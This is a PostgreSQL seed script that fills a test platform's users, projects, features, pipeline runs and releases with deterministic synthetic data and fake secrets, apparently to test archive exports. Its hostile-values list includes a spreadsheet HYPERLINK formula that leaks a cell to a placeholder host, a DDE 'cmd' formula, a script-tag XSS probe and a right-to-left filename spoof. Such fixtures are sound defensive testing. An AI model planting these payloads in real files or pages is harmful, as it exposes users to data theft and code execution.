-- Fills the reference platform; run by platform.rs in one transaction, whose settings seed.* say how much.
--
-- Everything follows from the seed and a row's number. With seed.markers every text cell holds its own marker,
-- mk-<table>-<column>-<number>-km, by which a test knows exactly which cells reached an archive. Every sixth row or so
-- is hostile: formulas, quotes, line feeds, control characters, right-to-left text, and the extremes of its types.

create function pg_temp.dice(what text, number bigint) returns bigint language sql stable as
$$ select hashtextextended(what, number * 1000003 + current_setting('seed.seed')::bigint) & 9223372036854775807 $$;

create function pg_temp.id(what text, number bigint) returns uuid language sql stable as
$$ select md5(current_setting('seed.seed') || what || number)::uuid $$;

create function pg_temp.mark(relation text, col text, number bigint) returns text language sql stable as
$$ select case current_setting('seed.markers')
    when 'on' then 'mk-' || relation || '-' || col || '-' || number || '-km' else '' end $$;

-- A plain text with its marker.
create function pg_temp.cell(plain text, relation text, col text, number bigint) returns text language sql stable as
$$ select case current_setting('seed.markers')
    when 'on' then plain || ' mk-' || relation || '-' || col || '-' || number || '-km' else plain end $$;

create function pg_temp.hostile(number bigint) returns text language sql immutable as $$
    select (array[
        '=HYPERLINK("http://example.invalid/?leak="&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A9)', '=cmd|''/c calc''!A1',
        e'\t=1+1', e'\r\n=1+1', e'\n', e' \t =2*3', U&'\FF1D1+1', U&'\FF0B2', U&'\FF0D3', U&'\FF204', '''', '''=1', '"',
        'a "quoted" word, and a comma; and a semicolon', e'line one\nline two\r\nline three\rline four', e'\u0001\u001f\u007f',
        U&'\+01F469\200D\+01F469\200D\+01F467 \+01F3F3\FE0F\200D\+01F308', U&'\0645\0631\062D\0628\0627 \202Egnp.exe\202C',
        U&'\FEFFbyte order mark', U&'line\2028separator', U&'e\0301 \00E9 \+01D4B3', e'back\\slash \\N \\"', '<script>alert(1)</script>',
        '{"looks": "like json"}', '[1, 2', 'NULL', '00123', '1e5', '12345678901234567890', 'true', '2026-02-30', '   '
    ])[1 + number % 35]
$$;

-- A text that someone wrote: hostile now and then, else a sentence.
create function pg_temp.prose(relation text, col text, number bigint) returns text language sql stable as $$
    select pg_temp.cell(
        case when pg_temp.dice(col, number) % 6 = 0 then pg_temp.hostile(pg_temp.dice(col, number) / 6)
        else (array['Ship', 'Rework', 'Measure', 'Document', 'Repair', 'Simplify'])[1 + pg_temp.dice(col || 'a', number) % 6]
            || ' the ' || (array['importer', 'login page', 'billing run', 'search index', 'dashboard', 'mobile app'])[1 + pg_temp.dice(col || 'b', number) % 6]
            || (array[' before the audit', ', finally', ' for new customers', ' (again)', '', ' without downtime'])[1 + pg_temp.dice(col || 'c', number) % 6]
        end, relation, col, number)
$$;

-- A moment in the two years before 2026-06-01.
create function pg_temp.moment(what text, number bigint) returns timestamptz language sql stable as
$$ select timestamptz '2026-06-01 00:00:00+00' - pg_temp.dice(what, number) % 63072000000 * interval '1 millisecond' $$;

-- Someone who is neither the account with nothing (2) nor nobody.
create function pg_temp.somebody(what text, number bigint) returns bigint language sql stable as
$$ select 3 + pg_temp.dice(what, number) % (current_setting('seed.users')::bigint - 2) $$;

insert into public.users (
    id, email, password_hash, api_token, totp_secret, full_name, display_name, bio, job_title, locale, time_zone, status, plan,
    credit_balance, reputation, date_of_birth, digest_at, session_timeout, preferences, topics, last_login_ip, avatar,
    marketing_consent, login_count, email_verified_at, last_login_at, created_at, updated_at, deleted_at
)
select
    pg_temp.id('user', n),
    'user' || n || case current_setting('seed.markers') when 'on' then '.' || pg_temp.mark('users', 'email', n) else '' end || '@example.com',
    '$argon2id$v=19$m=19456,t=2,p=1$' || md5('salt' || n) || '$' || pg_temp.mark('users', 'password_hash', n),
    'tok_' || md5('token' || n) || pg_temp.mark('users', 'api_token', n),
    convert_to('totp' || pg_temp.mark('users', 'totp_secret', n), 'UTF8'),
    pg_temp.cell((array['Ada', 'Björk', 'Chidi', 'Dđorđe', 'Eun-ji', 'Fátima', 'Grace', 'Håkon'])[1 + n % 8] || ' '
        || (array['Ōtani', 'O''Neill', 'van der Berg', 'Nguyễn', 'Łukasik', 'Smith'])[1 + n % 6], 'users', 'full_name', n),
    case when n % 4 <> 0 then pg_temp.prose('users', 'display_name', n) end,
    case n % 5 when 0 then null when 1 then '' else pg_temp.prose('users', 'bio', n) || e'\n\n' || repeat('Lorem ipsum. ', (n % 9)::integer) end,
    case when n % 3 <> 0 then pg_temp.cell('Engineer', 'users', 'job_title', n) end,
    pg_temp.cell((array['en', 'de-AT', 'pt-BR', 'ar'])[1 + n % 4], 'users', 'locale', n),
    pg_temp.cell((array['UTC', 'Europe/Vienna', 'America/Sao_Paulo'])[1 + n % 3], 'users', 'time_zone', n),
    (array['active', 'active', 'active', 'suspended', 'closing'])[1 + n % 5]::public.account_status,
    (array['free', 'team', 'enterprise'])[1 + n % 3]::public.plan_tier,
    case n % 7 when 0 then 'NaN' when 1 then 9999999999.9999 when 2 then -0.0001 else (n * 17.25)::numeric end,
    case n % 8 when 0 then 'NaN' when 1 then '-Infinity' when 2 then 1e-40 when 3 then '-0' else 0.1 * n end::real,
    case n % 6 when 0 then null when 1 then '4713-01-01 BC' when 2 then 'infinity' else date '1980-01-01' + (n * 97)::integer end,
    case n % 3 when 0 then null when 1 then '24:00:00' else time '07:30:00.000001' end,
    case n % 4 when 0 then interval '-1 year -2 months +3 days -04:05:06.789' when 1 then '0' else '30 days' end,
    jsonb_build_object('theme', pg_temp.cell('dark', 'users', 'preferences', n), 'ratio', 1.10, 'big', 12345678901234567890123456789, 'nested', jsonb_build_array(null, true, '{}'::jsonb)),
    case n % 4 when 0 then '{}' when 1 then array['a,b', 'c"d', null, '', 'NULL'] else array['news', pg_temp.mark('users', 'topics', n)] end,
    case n % 3 when 0 then null when 1 then inet '2001:db8::1' + n else inet '192.0.2.0/24' + n end,
    case when n % 2 = 0 then convert_to(pg_temp.mark('users', 'avatar', n), 'UTF8') || '\x00ff'::bytea end,
    case n % 3 when 0 then null else n % 2 = 0 end,
    case n % 9 when 0 then 2147483647 when 1 then -2147483648 else n end::integer,
    case when n % 4 <> 0 then pg_temp.moment('verified', n) end,
    case n % 10 when 0 then 'infinity' when 1 then '-infinity' when 2 then '294276-12-31 23:59:59.999999+00' when 3 then '4713-01-01 00:00:00+00 BC' else pg_temp.moment('login', n) end,
    pg_temp.moment('created', n), pg_temp.moment('updated', n),
    case when n % 11 = 0 then timestamptz '2026-05-01 12:00:00+00' end
from generate_series(1, current_setting('seed.users')::bigint) n;

update public.users u set invited_by = pg_temp.id('user', pg_temp.somebody('invited', n))
from generate_series(3, current_setting('seed.users')::bigint) n where u.id = pg_temp.id('user', n) and n % 2 = 0;

-- The first five projects belong to the heavy account, none to the second account.
insert into public.projects (
    id, owner_id, slug, name, description, visibility, default_branch, repository_url, deploy_key, webhook_secret, tags, settings,
    allowed_networks, monthly_budget, currency, storage_bytes, archived_at, created_at, updated_at, deleted_at
)
select
    pg_temp.id('project', n),
    case when n <= 5 then pg_temp.id('user', 1) else pg_temp.id('user', pg_temp.somebody('owner', n)) end,
    'project-' || n || case current_setting('seed.markers') when 'on' then '-' || pg_temp.mark('projects', 'slug', n) else '' end,
    pg_temp.prose('projects', 'name', n),
    case n % 4 when 0 then null when 1 then '' else pg_temp.prose('projects', 'description', n) end,
    (array['private', 'internal', 'public'])[1 + n % 3]::public.project_visibility,
    pg_temp.cell('main', 'projects', 'default_branch', n),
    'https://git.example.com/' || n || '.git?' || pg_temp.mark('projects', 'repository_url', n),
    'ssh-ed25519 ' || md5('key' || n) || pg_temp.mark('projects', 'deploy_key', n),
    'whsec_' || md5('hook' || n) || pg_temp.mark('projects', 'webhook_secret', n),
    case n % 3 when 0 then '{}' else array['rust', pg_temp.cell('tag', 'projects', 'tags', n)] end,
    jsonb_build_object('ci', true, 'note', pg_temp.prose('projects', 'settings', n)),
    case n % 2 when 0 then '{}' else array['10.0.0.0/8'::cidr, '2001:db8::/32'] end,
    case n % 5 when 0 then null else n * 99.95 end,
    (array['EUR', 'BRL', 'X'])[1 + n % 3],
    case n % 6 when 0 then 9223372036854775807 when 1 then -9223372036854775808 else n * 1048576 end,
    case when n % 8 = 0 then pg_temp.moment('archived', n) end,
    pg_temp.moment('project', n), pg_temp.moment('project updated', n),
    case when n % 7 = 0 or n = 4 then timestamptz '2026-05-15 08:00:00+00' end
from generate_series(1, current_setting('seed.projects')::bigint) n;

-- The heavy account is also listed as a member of a project of its own (1) and of projects of others (6, 7);
-- account 3 has left project 1, account 4 has left it and come back.
insert into public.project_members (project_id, user_id, role, joined_at, left_at)
select pg_temp.id('project', m.project), pg_temp.id('user', m.member), 'maintainer', m.joined_at, m.left_at
from (values
    (1, 1, timestamptz '2025-01-01 00:00:00+00', null),
    (6, 1, '2025-01-02 00:00:00+00', null),
    (7, 1, '2025-01-03 00:00:00+00', null),
    (1, 3, '2025-01-04 00:00:00+00', timestamptz '2025-06-01 00:00:00+00'),
    (1, 4, '2025-01-05 00:00:00+00', '2025-06-01 00:00:00+00'),
    (1, 4, '2025-07-01 00:00:00+00', null)
) m(project, member, joined_at, left_at);

insert into public.project_members (project_id, user_id, role, joined_at, left_at)
select
    pg_temp.id('project', n), pg_temp.id('user', pg_temp.somebody('member' || place, n)),
    (array['viewer', 'developer', 'maintainer'])[1 + (n + place) % 3]::public.member_role,
    timestamptz '2025-02-01 00:00:00+00' + place * interval '1 day',
    case when (n + place) % 4 = 0 then timestamptz '2025-11-01 00:00:00+00' end
from generate_series(6, current_setting('seed.projects')::bigint) n, generate_series(1, 3) place
on conflict do nothing;

-- Each project has a few features, runs and releases; the ninth has nothing at all.
insert into public.features (
    id, project_id, number, title, description, status, previous_statuses, priority, estimate_days, labels, acceptance, votes,
    author_id, assignee_id, reporter_email, target_date, reminder_at, created_at, updated_at, deleted_at
)
select
    pg_temp.id('feature', n), pg_temp.id('project', project), place,
    pg_temp.prose('features', 'title', n),
    case n % 5 when 0 then null
        when 1 then pg_temp.cell('Asked for by carla.contact+' || n || '@customer.example, please call her back', 'features', 'description', n)
        else pg_temp.prose('features', 'description', n) end,
    (array['idea', 'planned', 'in progress', 'shipped', 'won''t do'])[1 + n % 5]::public.feature_status,
    (array['{}', '{idea}', '{idea,"in progress",NULL}'])[1 + n % 3]::public.feature_status[],
    case n % 9 when 0 then 32767 when 1 then -32768 else n % 5 end::smallint,
    case n % 4 when 0 then null else n / 3.0 end::real,
    case n % 3 when 0 then '{}' when 1 then array[['x', 'y'], ['z', null]] else array['backend', pg_temp.cell('label', 'features', 'labels', n)] end,
    case n % 4 when 0 then null when 1 then 'null' when 2 then '{"b" : 1,  "a":[1.0, 1e2 ], "b":2}'
        else json_build_object('given', pg_temp.prose('features', 'acceptance', n))::text end::json,
    n * 1000003,
    pg_temp.id('user', pg_temp.somebody('author', n)),
    case when n % 3 <> 0 then pg_temp.id('user', 1 + pg_temp.dice('assignee', n) % current_setting('seed.users')::bigint) end,
    case when n % 2 = 0 then 'reporter' || n || '.' || coalesce(nullif(pg_temp.mark('features', 'reporter_email', n), ''), 'x') || '@customer.example' end,
    case n % 6 when 0 then '-infinity' when 1 then null else date '2026-07-01' + n::integer % 90 end,
    case n % 7 when 0 then 'infinity' when 1 then null else timestamp '2026-07-01 09:30:00.5' + n * interval '1 hour' end,
    pg_temp.moment('feature', n / 2), pg_temp.moment('feature updated', n),
    case when n % 13 = 0 then timestamptz '2026-05-20 00:00:00+00' end
from generate_series(1, current_setting('seed.projects')::bigint) project, generate_series(1, 12) place,
    lateral (select project * 12 + place as n) numbered
where project <> 9 and place <= 2 + pg_temp.dice('features', project) % 11;

insert into public.pipeline_runs (
    id, project_id, number, branch, commit_sha, commit_message, status, trigger, started_by, committer_email, runner_address, steps,
    variables, log_excerpt, exit_code, duration, cpu_seconds, cost, artifact_digest, created_at, started_at, finished_at
)
select
    pg_temp.id('run', n), pg_temp.id('project', project), place,
    pg_temp.cell((array['main', 'release/2', 'feature/login', 'fix-"it"'])[1 + n % 4], 'pipeline_runs', 'branch', n),
    case current_setting('seed.markers') when 'on' then rpad(pg_temp.mark('pipeline_runs', 'commit_sha', n), 40, '0')
        else md5('commit' || n) || substr(md5('tree' || n), 1, 8) end,
    case when n % 10 <> 0 then pg_temp.prose('pipeline_runs', 'commit_message', n) end,
    (array['succeeded', 'succeeded', 'failed', 'succeeded', 'cancelled', 'running'])[1 + n % 6]::public.run_status,
    (array['push', 'schedule', 'manual', 'api'])[1 + n % 4]::public.run_trigger,
    case when n % 5 <> 0 then pg_temp.id('user', pg_temp.somebody('starter', n)) end,
    'committer' || n || '.' || coalesce(nullif(pg_temp.mark('pipeline_runs', 'committer_email', n), ''), 'x') || '@customer.example',
    inet '10.1.0.0' + n % 65536,
    jsonb_build_array(
        jsonb_build_object('name', 'checkout', 'seconds', n % 7, 'ok', true),
        jsonb_build_object('name', 'build', 'seconds', 30 + n % 200, 'ok', n % 6 <> 2, 'cache', jsonb_build_object('hit', n % 3 <> 0)),
        jsonb_build_object('name', pg_temp.cell('test', 'pipeline_runs', 'steps', n), 'seconds', 12.50, 'ok', n % 6 <> 2)
    ),
    jsonb_build_object('DATABASE_PASSWORD', md5('secret' || n) || pg_temp.mark('pipeline_runs', 'variables', n)),
    case n % 8 when 0 then null else pg_temp.prose('pipeline_runs', 'log_excerpt', n)
        || e'\n[12:00:01] compiling ' || n || e' crates\n[12:01:07] running 212 tests\n[12:01:09] test result: ok. 212 passed; 0 failed'
        || case when n % 6 = 2 then e'\n\u001b[31merror\u001b[0m: process didn''t exit successfully' else '' end end,
    case n % 6 when 2 then 101 when 5 then null else 0 end,
    case when n % 6 <> 5 then (30 + n % 900) * interval '1.000001 second' end,
    case n % 50 when 0 then 'NaN' when 1 then 'Infinity' else (n % 90000) / 7.0 end::double precision,
    (n % 100) * 0.0123,
    case when n % 6 = 0 then sha256(convert_to('artifact' || n, 'UTF8')) end,
    -- Runs of one project may share a moment: the id decides then.
    timestamptz '2026-06-01 00:00:00+00' - (place / 2) * interval '97.003 seconds',
    timestamptz '2026-06-01 00:00:00+00' - (place / 2) * interval '97.003 seconds' + interval '2 seconds',
    case when n % 6 <> 5 then timestamptz '2026-06-01 00:20:00+00' - (place / 2) * interval '97.003 seconds' end
from (
    select project, place, project * 1000 + place as n
    from generate_series(1, current_setting('seed.projects')::bigint) project, generate_series(1, 40) place
    where project <> 9 and place <= 3 + pg_temp.dice('runs', project) % 38
    union all
    select 1 + i % 3, 1000 + i, 100000000 + i from generate_series(1, current_setting('seed.heavy_runs')::bigint) i
) numbered;

insert into public.releases (
    id, project_id, version, channel, notes, artifacts, download_counts, rollout, rollout_window, size_limits, is_latest, checksum,
    signing_secret, released_by, created_at, released_at, yanked_at
)
select
    pg_temp.id('release', n), pg_temp.id('project', project),
    pg_temp.cell('1.' || place || '.0-rc.1+' || n, 'releases', 'version', n),
    (array['nightly', 'beta', 'stable'])[1 + n % 3]::public.release_channel,
    case when n % 4 <> 0 then pg_temp.prose('releases', 'notes', n) end,
    jsonb_build_array(jsonb_build_object('file', pg_temp.cell('app.tar.gz', 'releases', 'artifacts', n), 'bytes', n * 4096)),
    case n % 3 when 0 then '{}' when 1 then array[0, null, 9223372036854775807] else array[n, n * 2, n * 3] end,
    case n % 6 when 0 then 'NaN' when 1 then 'Infinity' when 2 then '1e-30' when 3 then '123456789012345678901234567890.000000000000000000001' when 4 then null else 0.50 end::numeric,
    case n % 3 when 0 then null when 1 then 'empty' else tstzrange('2026-06-01 00:00:00+00', '2026-06-08 00:00:00+00', '[)') end,
    case n % 2 when 0 then int4range(1, 100) end,
    n % 5 = 0,
    case when n % 2 = 0 then sha256(convert_to('release' || n, 'UTF8')) end,
    'sig_' || md5('sig' || n) || pg_temp.mark('releases', 'signing_secret', n),
    case when n % 3 <> 0 then pg_temp.id('user', pg_temp.somebody('releaser', n)) end,
    pg_temp.moment('release', n), case when n % 4 <> 0 then pg_temp.moment('released', n) end,
    case when n % 9 = 0 then 'infinity'::timestamptz end
from generate_series(1, current_setting('seed.projects')::bigint) project, generate_series(1, 6) place,
    lateral (select project * 6 + place as n) numbered
where project <> 9 and place <= pg_temp.dice('releases', project) % 7;

drop function pg_temp.somebody, pg_temp.moment, pg_temp.prose, pg_temp.hostile, pg_temp.cell, pg_temp.mark, pg_temp.dice;
